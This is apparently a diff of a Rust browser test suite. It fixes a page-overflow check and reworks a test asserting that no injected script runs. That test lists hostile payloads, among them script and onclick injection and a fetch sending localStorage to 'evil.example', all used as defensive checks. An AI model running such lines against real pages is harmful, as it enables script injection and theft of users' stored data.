@@ -111,6 +111,8 @@ async fn hostile_words_do_nothing_on_any_page() -> Result<()> {
         .script(&format!("{is_kept}.split(':assessment:')[1]"))
         .await?;
     let mut faults = Vec::new();
+    // As narrow as the browser makes it.
+    let room: u32 = session.script("innerWidth").await?;
     for route in every_route(&id) {
         if route == "#/demo" {
             continue;
@@ -126,7 +128,7 @@ async fn hostile_words_do_nothing_on_any_page() -> Result<()> {
         let wide: u32 = session
             .script("document.documentElement.scrollWidth")
             .await?;
-        if wide > 360 {
+        if wide > room {
             let by: Vec<String> = session.script(WIDEST).await?;
             faults.push(format!("{route} is {wide} wide: {by:?}"));
         }
@@ -148,8 +150,8 @@ async fn hostile_words_do_nothing_on_any_page() -> Result<()> {
 
 /// What reaches out of the screen, the innermost of it.
 const WIDEST: &str = "[...document.querySelectorAll('body *')].filter((one) => \
-    one.getBoundingClientRect().right > 361 && one.closest('.table-scroll, .chart-scroll, svg') === null \
-    && ![...one.children].some((inner) => inner.getBoundingClientRect().right > 361)) \
+    one.getBoundingClientRect().right > innerWidth + 1 && one.closest('.table-scroll, .chart-scroll, svg') === null \
+    && ![...one.children].some((inner) => inner.getBoundingClientRect().right > innerWidth + 1)) \
     .slice(0, 4).map((one) => `${one.parentElement.className}>${one.tagName}.${one.className}`)";
 
 #[tokio::test]
@@ -168,10 +170,6 @@ async fn mutated_files_are_answered_and_change_nothing() -> Result<()> {
 
 #[tokio::test]
 async fn no_script_runs_but_the_pages_own() -> Result<()> {
-    let session = Session::start().await?;
-    session.open("#/demo/it-provider").await?;
-    ResultPage(&session).wait().await?;
-    session.wait_until_loaded().await?;
     let deeds = [
         "const one = document.createElement('script'); one.append('window.hacked = 1'); document.body.append(one)",
         "const one = document.createElement('p'); one.setAttribute('onclick', 'window.hacked = 1'); \
@@ -190,11 +188,17 @@ async fn no_script_runs_but_the_pages_own() -> Result<()> {
         "await fetch('https://evil.example/?' + JSON.stringify(localStorage))",
         "const one = new Image(); one.src = 'https://evil.example/pixel.png'; document.body.append(one)",
     ];
-    for deed in deeds {
-        // In a task of its own: the driver lets what it runs itself evaluate text.
+    // As scripts of the page's own, in a task of their own: what a driver runs may evaluate text.
+    let tasks = deeds.map(|deed| format!("async () => {{ {deed} }}"));
+    let session = Session::start().await?;
+    session.before_pages(&format!("window.deeds = [{}]", tasks.join(",\n")));
+    session.open("#/demo/it-provider").await?;
+    ResultPage(&session).wait().await?;
+    session.wait_until_loaded().await?;
+    for (at, deed) in deeds.into_iter().enumerate() {
         let script = format!(
             "const done = arguments[arguments.length - 1]; \
-             setTimeout(() => (async () => {{ {deed} }})().catch(() => {{}}) \
+             setTimeout(() => window.deeds[{at}]().catch(() => {{}}) \
              .then(() => setTimeout(() => done('hacked' in window), 100)))"
         );
         let hacked = session.driver().execute_async(script, Vec::new()).await?;
